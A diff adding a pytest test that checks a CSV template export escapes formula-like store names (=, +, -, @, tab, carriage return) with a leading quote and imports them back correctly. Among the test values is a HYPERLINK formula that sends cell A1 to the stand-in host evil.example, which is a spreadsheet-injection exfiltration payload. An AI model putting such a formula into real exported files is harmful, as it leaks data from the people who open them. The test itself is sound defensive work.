@@ -7,6 +7,7 @@ from datetime import date, timedelta
 from fastapi.testclient import TestClient
 from sqlalchemy.orm import Session
 
+from tests.factories import make_location
 from tests.footfall.helpers import MONDAY, URL, listing, post, shop, upload
 
 
@@ -232,3 +233,38 @@ def test_template_lists_writable_stores_and_imports_cleanly(
     assert result.status_code == 200, result.text
     assert (result.json()["created"], result.json()["skipped"]) == (1, 1)
     assert client.get(f"{URL}/template.csv", headers=s.viewer.headers).status_code == 403
+
+
+def test_template_names_that_look_like_formulas_are_text_and_import_back(
+    client: TestClient, db: Session
+) -> None:
+    s = shop(client, db)
+    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+1", "-1+1", "@SUM(1)"]
+    formulas += ["\t=1+1", "\r=1+1"]
+    stores = {}
+    for name in formulas:
+        store = make_location(db, org_id=s.org_id)
+        store.name = name  # as the sync stores a Square name: the API's form would strip a tab
+        stores[store.id] = name
+    # A store really named '=2+2 next to one named =2+2, which the template would write as '=2+2.
+    literal = make_location(db, org_id=s.org_id, name="'=2+2")
+    twin = make_location(db, org_id=s.org_id, name="=2+2")
+    db.commit()
+
+    response = client.get(f"{URL}/template.csv", headers=s.owner.headers)
+    rows = list(csv.reader(io.StringIO(response.text)))
+    labels = [row[0] for row in rows[1:]]
+    assert {"'" + name for name in formulas} <= set(labels)
+    assert {"'=2+2", str(twin.id)} <= set(labels)
+    assert all(not label or label[0] not in "=+-@\t\r" for label in labels)
+
+    out = io.StringIO()  # filled in and saved by a spreadsheet: the quotes stay
+    filled = csv.writer(out)
+    filled.writerow(rows[0])
+    for row in rows[1:]:
+        filled.writerow([row[0], MONDAY.isoformat(), "42", ""])
+    result = upload(client, s.owner, out.getvalue())
+    assert result.status_code == 200, result.text
+    assert (result.json()["created"], result.json()["rejected"]) == (len(rows) - 1, 0)
+    counted = {e["location_id"] for e in listing(client, s.owner) if e["count"] == 42}
+    assert set(stores) | {literal.id, twin.id} <= counted
